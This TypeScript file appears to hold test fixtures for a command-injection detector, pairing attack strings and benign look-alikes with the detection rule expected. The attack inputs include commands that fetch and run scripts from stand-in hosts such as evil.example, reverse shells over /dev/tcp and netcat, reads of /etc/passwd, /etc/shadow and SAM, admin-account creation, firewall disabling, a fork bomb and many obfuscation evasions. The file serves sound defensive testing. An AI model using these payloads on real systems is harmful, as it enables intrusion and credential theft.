import type { ValueKind } from '../../inspectable.js';

/** One detection case: a value, where it came from, and the rule expected (null: must not be flagged). */
export interface CmdiCase {
  readonly input: string;
  readonly kind?: ValueKind;
  /** Where the value came from (`query.x` when absent); field names matter to some rules. */
  readonly location?: string;
  readonly expect: string | null;
  /** For an attack, the confidence the rule must reach (paranoid strength when absent): 0.9 blocks alone. */
  readonly min?: number;
  /** For a benign value, the confidence it must stay below (the paranoid threshold when absent). */
  readonly max?: number;
}

const BLOCKS = 0.9;

/**
 * Command-injection cases shared by the unit test, the benchmark and the fuzz target. Attacks name the rule
 * that must fire (at paranoid strength or more, or at `min`); benign look-alikes must stay below the
 * paranoid threshold (or below `max`: a command line in a search box is below blocking strength).
 */
export const CMDI_CASES: readonly CmdiCase[] = [
  // Separators and pipes in front of a command.
  { input: ';id', expect: 'cmdi/chained-command' },
  { input: ';cat /etc/passwd', expect: 'cmdi/chained-command' },
  { input: '127.0.0.1; ls -la /var/www', expect: 'cmdi/chained-command' },
  { input: '127.0.0.1 && curl http://evil.example/x.sh | sh', expect: 'cmdi/chained-command' },
  { input: 'foo.txt | whoami', expect: 'cmdi/chained-command' },
  { input: 'x || ping -c 10 127.0.0.1', expect: 'cmdi/chained-command' },
  { input: '%0Aid', kind: 'query-value', expect: 'cmdi/chained-command' },
  { input: '%0a ping -i 30 127.0.0.1 %0a', kind: 'query-value', expect: 'cmdi/chained-command', min: 0.9 },
  // A whole value that is a cmd.exe tool, one of its verbs and a `/switch`.
  { input: 'net user hacker Password1 /ADD', kind: 'query-value', expect: 'cmdi/shell-command', min: 0.9 },
  {
    input: 'net localgroup Administrators hacker /ADD',
    kind: 'query-value',
    expect: 'cmdi/shell-command',
    min: 0.9,
  },
  { input: 'net income /yr', kind: 'query-value', expect: null, max: BLOCKS },
  // A command line ending in a pipe: what Perl's two-argument open runs.
  { input: '/usr/bin/id|', kind: 'query-value', expect: 'cmdi/shell-command', min: 0.9 },
  { input: 'uname -a|', kind: 'query-value', expect: 'cmdi/shell-command', min: 0.9 },
  { input: 'Tom & Jerry|', kind: 'query-value', expect: null },
  { input: '%250Aid', kind: 'query-value', expect: 'cmdi/chained-command' },
  { input: 'a\nuname -a', expect: 'cmdi/chained-command' },
  { input: "x'; wget http://203.0.113.9/a -O /tmp/a; '", expect: 'cmdi/chained-command' },
  { input: '"; nc -e /bin/sh 10.0.0.1 4444 #', expect: 'cmdi/chained-command' },
  { input: 'ifconfig;uname -a', expect: 'cmdi/chained-command' },
  { input: 'time; sleep 10', expect: 'cmdi/chained-command' },
  // Substitutions.
  { input: '$(whoami)', expect: 'cmdi/command-substitution' },
  { input: '`id`', expect: 'cmdi/command-substitution' },
  { input: 'echo $(cat /etc/passwd)', expect: 'cmdi/command-substitution' },
  { input: 'name=`uname -a`', expect: 'cmdi/command-substitution' },
  { input: '<(curl http://evil.example)', expect: 'cmdi/command-substitution' },
  { input: 'pi$()ng -c 1 127.0.0.1', expect: 'cmdi/obfuscated-command' },
  // Evasions: quote splitting, escapes, empty variables, $IFS, globs, braces, variables.
  { input: "c'a't /etc/passwd", expect: 'cmdi/obfuscated-command' },
  { input: 'w"h"o"am"i', expect: 'cmdi/obfuscated-command' },
  { input: 'c\\at /etc/hosts', expect: 'cmdi/obfuscated-command' },
  { input: ';c$@at /etc/issue', expect: 'cmdi/obfuscated-command' },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell parameter expansion, not a template
  { input: 'cat${IFS}/etc/passwd', expect: 'cmdi/ifs-evasion' },
  { input: ';cat$IFS$9/etc/passwd', expect: 'cmdi/obfuscated-command' },
  { input: '/???/c?t /???/p??s??', expect: 'cmdi/obfuscated-command' },
  { input: '/bin/ca? /et*/passwd', expect: 'cmdi/glob-path' },
  { input: '/[p]roc/', expect: 'cmdi/glob-path', min: BLOCKS },
  { input: '{cat,/etc/passwd}', expect: 'cmdi/obfuscated-command' },
  { input: 'a=c;b=at;$a$b /etc/hosts', expect: 'cmdi/obfuscated-command' },
  { input: '$SHELL -c id', expect: 'cmdi/obfuscated-command' },
  { input: 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1', expect: 'cmdi/reverse-shell' },
  { input: '/bin/sh -c "curl http://evil.example/a | sh"', expect: 'cmdi/shell-command' },
  { input: 'nohup curl http://evil.example/x', expect: 'cmdi/chained-command' },
  { input: 'python3 -c "import os;os.system(\'id\')"', expect: 'cmdi/shell-command' },
  { input: 'cat /etc/shadow', expect: 'cmdi/shell-command' },
  // Windows.
  { input: '& dir C:\\', expect: 'cmdi/chained-command' },
  { input: '| type C:\\Windows\\win.ini', expect: 'cmdi/chained-command' },
  { input: '%COMSPEC% /c whoami', expect: 'cmdi/shell-command' },
  { input: 'x & powershell -enc SQBFAFgAIAAoAGkAdwByACkA', expect: 'cmdi/chained-command' },
  { input: 'FOR /F "tokens=*" %G IN (\'dir /b\') DO echo %G', expect: 'cmdi/windows-batch' },
  { input: 'IF EXIST C:\\boot.ini type C:\\boot.ini', expect: 'cmdi/windows-batch' },
  { input: 'a.jpg&certutil -urlcache -f http://evil.example/p.exe p.exe', expect: 'cmdi/chained-command' },
  // Other shells' and servers' syntax.
  { input: ':(){ :|:& };:', expect: 'cmdi/fork-bomb' },
  { input: '<!--#exec cmd="/bin/cat /etc/passwd"-->', expect: 'cmdi/ssi-directive' },
  { input: '<!--#echo var="DATE_LOCAL" -->', expect: 'cmdi/ssi-directive', min: BLOCKS },
  { input: '<esi:include src="http://evil.example/x.html"/>', expect: 'cmdi/esi-tag', min: BLOCKS },
  { input: 'x=<esi:assign name="v" value="1"/><esi:vars name="$(v)"/>', expect: 'cmdi/esi-tag', min: BLOCKS },
  { input: '<!-- # echo the value here -->', kind: 'body-value', expect: null, max: BLOCKS },
  { input: '%0D%0ARCPT TO:<victim@example.com>', kind: 'body-value', expect: 'cmdi/mail-command' },
  { input: 'hello%0D%0Aa001 LOGIN admin secret', kind: 'body-value', expect: 'cmdi/mail-command' },

  // A whole value that is one command line: a tool that is no word, or a word with an option or a path.
  { input: 'cscli decisions list', expect: 'cmdi/shell-command', min: BLOCKS },
  {
    input:
      'If you need a single metric in the exposition format, you\ncan use `await register.getSingleMetricAsString(*name of metric*)`, which will\nreturn a string.',
    kind: 'body-value',
    location: 'body.json.body',
    expect: null,
  },
  // A Markdown link's text is no globbed path.
  {
    input: 'More examples could be found in [test/test-parallel-array.js](test/test-parallel-array.js).',
    kind: 'body-value',
    location: 'body.json.body',
    expect: null,
  },
  // A post of several lines: a code span glued to letters is Markdown; a form folds nothing away.
  {
    input:
      'Timers\n\n`unref`ed timers do not prevent the process from exiting, so they are left out of the report.',
    kind: 'body-value',
    location: 'body.json.body',
    expect: null,
  },
  {
    input: encodeURIComponent(
      // biome-ignore lint/suspicious/noTemplateCurlyInString: the post spells shell variables literally
      'It looks for a config in these places:\n\n  * `$HOME/.${appname}rc`\n  * `/etc/${appname}rc`\n  * the defaults you passed in.',
    ),
    kind: 'body-value',
    location: 'body.form.comment',
    expect: null,
  },
  // A Markdown post: a command in a fenced code block is a sample; one outside the fences counts in full.
  {
    input:
      "On Windows, PowerShell uses a different syntax to set environment variables. Set the variable, then start the app as usual.\n\nExample:\n\n```cmd\n$env:DEBUG='app';node app.js\n```\n\nThen run the program to be debugged the way you always do, and read its output in the terminal.",
    kind: 'body-value',
    location: 'body.json.content',
    expect: null,
    max: BLOCKS,
  },
  {
    input:
      'On Windows, PowerShell uses a different syntax to set environment variables. Set the variable, then start the app as usual.\n\nExample:\n\n```cmd\nset DEBUG=app\n```\n\nThen run it; cat /etc/passwd | nc 10.0.0.1 4444 and you are done with it.',
    kind: 'body-value',
    location: 'body.json.content',
    expect: 'cmdi/chained-command',
    min: BLOCKS,
  },
  {
    input: 'ansible-inventory --graph',
    kind: 'header-value',
    location: 'header.user-agent',
    expect: 'cmdi/shell-command',
    min: BLOCKS,
  },
  { input: 'set -o vi', expect: 'cmdi/shell-command', min: BLOCKS },
  {
    input: 'more /var/log/messages',
    kind: 'body-value',
    location: 'body.form.file',
    expect: 'cmdi/shell-command',
    min: BLOCKS,
  },
  { input: 'kill "-"15 1', expect: 'cmdi/shell-command', min: BLOCKS },
  { input: 'nohup who', expect: 'cmdi/chained-command', min: BLOCKS },
  { input: 'find / -perm -4000 -exec ls -l {} \\;', expect: 'cmdi/chained-command', min: BLOCKS },
  { input: ";trap 'curl evil.example|sh' EXIT", expect: 'cmdi/chained-command', min: BLOCKS },
  { input: '|at now "uname -a"', expect: 'cmdi/chained-command', min: BLOCKS },
  { input: 'alias x=id;x', expect: 'cmdi/shell-command', min: 1 },
  { input: 'alias -g p=q', expect: 'cmdi/shell-command', min: BLOCKS },
  { input: 'x;.sh id', expect: 'cmdi/chained-command', min: BLOCKS },
  { input: "1;.'system' uname", expect: 'cmdi/obfuscated-command', min: BLOCKS },
  { input: 'q;.load /tmp/x.so', expect: 'cmdi/chained-command', min: BLOCKS },
  { input: 'a;c$_at /etc/hosts', expect: 'cmdi/obfuscated-command', min: BLOCKS },
  { input: ';+ls+-la+/home', kind: 'body-value', expect: 'cmdi/chained-command', min: BLOCKS },
  {
    input: 'https://shop.example/search?x=1&cmd=uname+-a',
    kind: 'header-value',
    location: 'header.referer',
    expect: 'cmdi/shell-command',
    min: BLOCKS,
  },
  { input: 'opt=g=userad[d];$g mallory', kind: 'body-value', expect: 'cmdi/obfuscated-command', min: BLOCKS },
  { input: 'rc deploy.sh', expect: 'cmdi/shell-command', min: BLOCKS },
  { input: 'perl /tmp/x.pl', expect: 'cmdi/shell-command', min: BLOCKS },
  {
    input: '"uname -a"',
    kind: 'header-value',
    location: 'header.user-agent',
    expect: 'cmdi/shell-command',
    min: BLOCKS,
  },
  { input: 'time date', location: 'query.run', expect: 'cmdi/chained-command', min: BLOCKS },
  // Words that join a sentence are no arguments: the whole value is prose, even in a field named for an id.
  // A Markdown post: a bold line is no glob, a line that opens with a capital is a sentence.
  {
    input:
      '# bl\n\n**A Node.js Buffer list collector, reader and streamer thing.**\n\nMore examples could be found in [test/test-serial-array.js](test/test-serial-array.js).\n\nUse it with npm.',
    kind: 'body-value',
    location: 'body.json.content',
    expect: null,
  },
  { input: 'anna\n**;cat /etc/passwd**', kind: 'body-value', expect: 'cmdi/chained-command' },
  {
    input:
      'Options for the converter are listed below, with the defaults they take.\n*a* keeps the alpha channel\nUse `` `x` `` to quote a backtick in these notes.',
    kind: 'body-value',
    location: 'body.json.content',
    expect: null,
    max: 0.9,
  },
  {
    input:
      'To build the docs run this from the root of the repository:\n\n`npm run toc`\n\nIt rewrites the table of contents.',
    kind: 'body-value',
    location: 'body.json.content',
    expect: null,
    max: 0.9,
  },
  { input: 'curl and divergence', location: 'query.id', expect: null, max: 0.9 },
  { input: 'echo in the mirror', location: 'query.id', expect: null, max: 0.9 },
  // Expansions that only shell code writes, and Windows batch comparisons.
  { input: '$((7))z a x.7z /tmp', expect: 'cmdi/obfuscated-command', min: BLOCKS },
  { input: '$[6*7]', expect: 'cmdi/shell-expansion', min: BLOCKS },
  { input: '$(( $(id) ))', expect: 'cmdi/command-substitution', min: BLOCKS },
  { input: '$(( $() + 1 ))', expect: 'cmdi/empty-substitution', min: BLOCKS },
  { input: 'x&id;', expect: 'cmdi/chained-command', min: BLOCKS },
  // Lists of field names joined by a separator are data.
  { input: 'id;name;type', expect: null, max: BLOCKS },
  { input: 'title|date|id', expect: null, max: BLOCKS },
  { input: 'id;whoami;uname', expect: 'cmdi/chained-command', min: BLOCKS },
  // cmd.exe command lines: switches, drive paths and registry keys are read as written.
  { input: '| net user hacker Password1 /ADD', expect: 'cmdi/chained-command', min: BLOCKS },
  { input: '; net view', expect: 'cmdi/chained-command', min: BLOCKS },
  { input: '&& net localgroup administrators', expect: 'cmdi/chained-command', min: BLOCKS },
  { input: '| reg query x', expect: 'cmdi/chained-command', min: BLOCKS },
  { input: 'Gross margin; net user growth was strong', expect: null },
  { input: 'costs & net use of funds', expect: null },
  { input: '; type C:\\WINNT\\repair\\SAM', expect: 'cmdi/chained-command', min: BLOCKS },
  {
    input: '& reg add "HKLM\\System\\CurrentControlSet\\Control" /v fDeny /t REG_DWORD /d 0 /f',
    expect: 'cmdi/chained-command',
    min: BLOCKS,
  },
  { input: '; netsh firewall set opmode disable', expect: 'cmdi/chained-command', min: BLOCKS },
  // A shell's binary handed to a command runs a shell.
  { input: 'nc -lvvp 4444 -e /bin/sh', expect: 'cmdi/shell-command', min: BLOCKS },
  { input: '| id', expect: 'cmdi/chained-command', min: BLOCKS },
  { input: 'wh``oami', expect: 'cmdi/empty-substitution', min: BLOCKS },
  { input: '/usr/bin/un``ame -a', expect: 'cmdi/empty-substitution', min: BLOCKS },
  { input: 'while(!!``);', expect: 'cmdi/empty-substitution', min: BLOCKS },
  { input: 'Reflect.sort.call``', expect: 'cmdi/empty-substitution', min: BLOCKS },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell parameter expansion, not a template
  { input: '${HOME#/}', expect: 'cmdi/shell-expansion', min: BLOCKS },
  { input: '~-/secret', expect: 'cmdi/shell-expansion', min: BLOCKS },
  { input: '~+', expect: 'cmdi/shell-expansion', min: BLOCKS },
  { input: '2>/var/www/html/x.php', expect: 'cmdi/redirection', min: BLOCKS },
  { input: 'if 3 LSS 5 dir', expect: 'cmdi/windows-batch', min: BLOCKS },
  { input: 'if "a"=="a" type C:\\boot.ini', expect: 'cmdi/windows-batch', min: BLOCKS },
  { input: 'CD /;CD VAR;DIR', expect: 'cmdi/chained-command', min: BLOCKS },

  // Benign look-alikes: words that are commands, punctuation that is an operator, prose, code.
  { input: 'the union of workers', expect: null },
  { input: "O'Brien", expect: null },
  { input: "Don't stop; it's fine", expect: null },
  { input: 'Tom & Jerry', expect: null },
  { input: 'Terms; conditions apply', expect: null },
  { input: 'hello; time he came', expect: null },
  { input: 'a hero; more than', expect: null },
  { input: 'Cut orange quarters into crosswise slices', expect: null },
  { input: 'Cat pictures', expect: null },
  { input: 'cat', expect: null },
  { input: 'ls', expect: null },
  { input: 'wget', expect: null },
  { input: 'curl/7.81.0', kind: 'header-value', expect: null },
  { input: 'base64', expect: null },
  { input: 'ping pong tables', expect: null },
  { input: 'time is of the essence', expect: null },
  { input: 'red;$5 each', expect: null },
  { input: 'Price: $20 (incl. VAT)', expect: null },
  { input: 'I love python; do you?', expect: null },
  { input: 'Rock & Roll; Blues | Jazz', expect: null },
  { input: 'Sale | 50% off | today only', expect: null },
  { input: 'If you need help, call us', expect: null },
  { input: 'For more info see the FAQ', expect: null },
  { input: 'if a == b: return x', expect: null },
  { input: 'Use `git status` to check', expect: null },
  { input: 'Die untere Straße; links Haus Nr. 104', expect: null },
  { input: 'Ihre Schwester ist Esskulturgut; man gönnt sie sich.', expect: null },
  { input: '1-2 years', expect: null },
  { input: '<3', expect: null },
  { input: 'C:\\Users\\me\\Documents\\report.docx', expect: null },
  { input: '{"name":"John Doe","age":"30","email":"johndoe@example.com"}', kind: 'body-text', expect: null },
  { input: '[{"value":true,"key":"enabled"}]', expect: null },
  { input: 'SELECT name FROM users WHERE id = 3', expect: null },
  { input: 'https://example.com/search?q=cat&sort=asc', expect: null },
  { input: 'user@example.com', expect: null },
  { input: '2024-05-06T10:00:00Z', expect: null },
  { input: 'dfc987c2-72e2-4a8e-ad98-e0bf1bc3a01c', expect: null },
  { input: 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl', expect: null },
  {
    input: 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
    kind: 'header-value',
    expect: null,
  },
  {
    input: 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15',
    kind: 'header-value',
    expect: null,
  },
  { input: 'Go to store.\nAt the store, shop.', expect: null },
  { input: 'Hello! World.\ndata not found.', expect: null },
  { input: 'We need the list "ASAP"', expect: null },
  { input: 'x && y || z', expect: null },
  { input: 'myfunction(){ echo hello }', expect: null },
  { input: 'jQuery: $(document).ready(fn)', expect: null },
  { input: '~/notes', expect: null },
  { input: 'Size: 8"x11"', expect: null },
  { input: 'See you at 5; bring snacks', expect: null },
  { input: 'To install, run `npm install` and then `npm start`.', expect: null },
  { input: 'Use this:\n```\nls -la\ncd ..\n```\nthen it works', kind: 'body-value', expect: null },
  // Markdown: a fence closing a block that quotes a string, and a code span written with double backticks.
  {
    input: '// prints a warning\nconsole.log("this is a warning".warn);\n```',
    kind: 'body-value',
    expect: null,
  },
  {
    input: 'const seen = new Map<string, number>();\nconst p = m.json<Person>();',
    kind: 'body-value',
    expect: null,
  },
  {
    input: "The library's defaults differ: `m=19456,t=2`; `argon2` uses `m=65536`.",
    kind: 'body-value',
    expect: null,
  },
  {
    input: '# Installation\n> `npm install --save @types/node`',
    kind: 'body-value',
    expect: null,
    max: 0.65,
  },
  {
    input: '<a name="slice"></a>\n### bl.slice([ start, [ end ] ])\nBoth `start` and `end` are optional.',
    kind: 'body-value',
    expect: null,
  },
  { input: 'Net user count is up; type your reg number here', kind: 'body-value', expect: null },
  { input: 'copy /B is the binary mode', expect: null, max: BLOCKS },
  { input: '&copy; 2024 Acme &amp; Sons &middot; all rights reserved', kind: 'body-value', expect: null },
  {
    input: 'Options:\n\n| Name | Type | Default |\n| ---- | ---- | ------- |\n| start | number | 0 |',
    kind: 'body-value',
    expect: null,
  },
  { input: '| Export | Type |\n|---|---|\n| id | string |', kind: 'body-value', expect: null },
  {
    input:
      '| Operation | Time | | --- | --- | | **Small objects** | ~690ns | | **No redaction** | **~18μs** |',
    kind: 'body-value',
    expect: null,
  },
  {
    input: 'This is similar to `supports-color`, but it does not read\n`process.argv`.',
    kind: 'body-value',
    expect: null,
  },
  { input: 'x; . /tmp/evil.sh', expect: 'cmdi/chained-command', min: BLOCKS },
  { input: 'type A = {a: string}\ntype B = {b: number}', kind: 'body-value', expect: null },
  { input: 'Wrap it as ``a `tick` inside`` to keep the backticks.', kind: 'body-value', expect: null },
  { input: 'if (a == b) { return c; } else { x = y | z & w; }', expect: null },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template string in a value, not in this code
  { input: 'Hello ${user.name}, your total is ${total}', expect: null },
  { input: 'kill bill vol 1', expect: null },
  { input: 'Apt 5B; 123 Main St. | Springfield & Co.', expect: null },
  // A command line where people type text (search, comments), words that are tools, and near misses.
  { input: 'kubectl get pods', location: 'query.q', expect: null, max: BLOCKS },
  {
    input: 'pip install requests',
    kind: 'body-value',
    location: 'body.json.search',
    expect: null,
    max: BLOCKS,
  },
  { input: 'ls -la', location: 'query.keywords', expect: null, max: BLOCKS },
  { input: 'ssh tunnel', kind: 'body-value', location: 'body.json.tags.2', expect: null, max: BLOCKS },
  {
    input: 'npm run build',
    kind: 'body-value',
    location: 'body.json.steps.0.name',
    expect: null,
    max: BLOCKS,
  },
  { input: 'time -based pricing', location: 'query.plan', expect: null, max: BLOCKS },
  { input: 'more /r/linux', location: 'query.sub', expect: null, max: BLOCKS },
  { input: 'date /2024/05/01', location: 'query.d', expect: null, max: BLOCKS },
  { input: 'type /api/v1/users', location: 'query.t', expect: null, max: BLOCKS },
  { input: 'sort -name', location: 'query.order', expect: null, max: BLOCKS },
  { input: 'ping google.com', location: 'query.host', expect: null, max: BLOCKS },
  { input: 'sudo make me a sandwich', expect: null },
  { input: 'government shutdown looms', expect: null },
  { input: 'nc state university', expect: null },
  { input: 'snap peas', expect: null },
  { input: 'brew coffee', expect: null },
  { input: 'find my phone', expect: null },
  { input: 'echo hello world', expect: null },
  { input: 'my alias is bob', expect: null },
  { input: 'alias: John Smith', expect: null },
  { input: '~ 5 minutes', expect: null },
  { input: '~/Documents', expect: null },
  { input: '> quoted reply', expect: null },
  { input: '>/tmp', expect: null, max: BLOCKS },
  { input: 'grades.$[elem].score', kind: 'body-name', expect: null, max: BLOCKS },
  { input: 'grades.$[]', kind: 'body-name', expect: null, max: BLOCKS },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell default, as in a compose file
  { input: '${POSTGRES_PASSWORD:-secret}', expect: null, max: BLOCKS },
  { input: 'if ($a == $b) echo "same";', kind: 'body-value', expect: null, max: BLOCKS },
  { input: 'c++ tutorial', expect: null },
  { input: 'rc car', expect: null },
  { input: 'a $constructor $toString $__proto__', expect: null },
  { input: 'RC1', expect: null },
  { input: 'sort=date&dir=asc', expect: null },
  { input: 'python is fun', expect: null },
  { input: 'CD /DVD drive', expect: null, max: BLOCKS },
  { input: '/???', expect: null },
  { input: '/*', expect: null },
  { input: '/e*', expect: null },
  { input: 'Rock+and+Roll', expect: null },
  { input: '+1+555+123+4567', expect: null },
  { input: "$_GET['id']", expect: null },
  {
    input: 'https://example.com/?q=cats+and+dogs&page=2',
    kind: 'header-value',
    location: 'header.referer',
    expect: null,
  },
];
